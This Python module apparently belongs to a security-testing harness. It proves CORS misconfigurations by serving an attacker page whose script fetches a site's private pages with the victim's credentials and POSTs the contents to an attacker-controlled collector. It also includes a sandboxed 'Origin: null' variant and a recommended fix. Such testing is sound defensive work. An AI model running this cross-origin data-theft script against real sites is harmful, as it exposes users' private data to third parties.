"""Scripts on another origin that fetch the site's pages with the victim's session.

Oracle: words that only the victim's pages show arrive at the attacker's collector. One page of the
attacker's fetches all targets of a visitor: they do not disturb one another.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING

from ringfence.prove.aims import private_pages, sees_secret
from ringfence.prove.stage import Attack, Outcome, Result, Target, new_marker, stopped_by_answer

if TYPE_CHECKING:
    from ringfence.prove.stage import Stage

__all__ = ["attack"]

_FIX = "let CORS name the origins that may read; never reflect an origin with credentials"

#: What is sent home of a page, in characters.
_MOST = 200_000


def attack(
    name: str,
    *,
    title: str,
    by: tuple[str, ...] = ("attacker",),
    sandboxed: bool = False,
    stopped_by: tuple[str, ...] = ("cors", "isolation", "transport"),
    fix: str = _FIX,
) -> Attack:
    """Return the attack from the attacker's origins of these kinds.

    ``sandboxed`` runs the script in a frame whose origin is opaque: it says ``Origin: null``.
    """

    def strike(stage: Stage, targets: Sequence[Target]) -> Sequence[Result]:
        results: dict[int, Result] = {}
        for visitor in dict.fromkeys(target.visitor for target in targets):
            stage.become(visitor)
            mine = {n: t for n, t in enumerate(targets) if t.visitor == visitor}
            for kind in by:
                left = {n: t for n, t in mine.items() if not _won(results.get(n))}
                if left:
                    results |= _read(stage, left, kind, sandboxed=sandboxed)
        return [results[number] for number in range(len(targets))]

    return Attack(
        name=name,
        title=title,
        cwe="CWE-942",
        stopped_by=stopped_by,
        find=private_pages,
        strike=strike,
        use=sees_secret,
        fix=fix,
    )


def _won(result: Result | None) -> bool:
    return result is not None and result.outcome is Outcome.SUCCEEDED


def _read(
    stage: Stage, targets: dict[int, Target], kind: str, *, sandboxed: bool
) -> dict[int, Result]:
    name = new_marker()
    addresses = {str(number): stage.url(target.path) for number, target in targets.items()}
    collect = json.dumps(stage.origin_of(kind) + stage.collect_path(name))
    script = f"""<script>
        const loot = {{}};
        const read = async ([number, address]) => {{
            try {{
                const answer = await fetch(address, {{credentials: "include"}});
                loot[number] = "read:" + (await answer.text()).slice(0, {_MOST});
            }} catch (error) {{ loot[number] = "blocked:" + error; }}
        }};
        Promise.all(Object.entries({_literal(addresses)}).map(read)).then(() =>
            fetch({collect}, {{method: "POST", body: JSON.stringify(loot)}}));
        </script>"""
    if sandboxed:
        # In an attribute: the frame's own script stands there as text.
        text = script.replace("&", "&amp;").replace('"', "&quot;")
        script = f'<iframe sandbox="allow-scripts" srcdoc="{text}"></iframe>'
    mark = stage.mark()
    stage.visit(stage.serve(f"<!doctype html><title>Cats</title>{script}", name=name, by=kind))
    told = stage.collected(name)
    if told is None:
        lost = Result(Outcome.INCONCLUSIVE, "timeout", "the attacker's page never reported")
        return dict.fromkeys(targets, lost)
    loot: dict[str, str] = json.loads(told)
    return {
        number: _judged(stage, target, loot.get(str(number), ""), mark, kind)
        for number, target in targets.items()
    }


def _judged(stage: Stage, target: Target, loot: str, mark: int, kind: str) -> Result:
    if stage.secret(target.visitor) in loot:
        return Result(
            Outcome.SUCCEEDED,
            "read",
            f"{len(loot)} characters with the victim's data arrived at {stage.origin_of(kind)}",
        )
    return stopped_by_answer(
        stage.request_since(mark, "GET", target.path), "the browser withheld the answer"
    )


def _literal(value: object) -> str:
    return json.dumps(value).replace("<", "\\u003c")
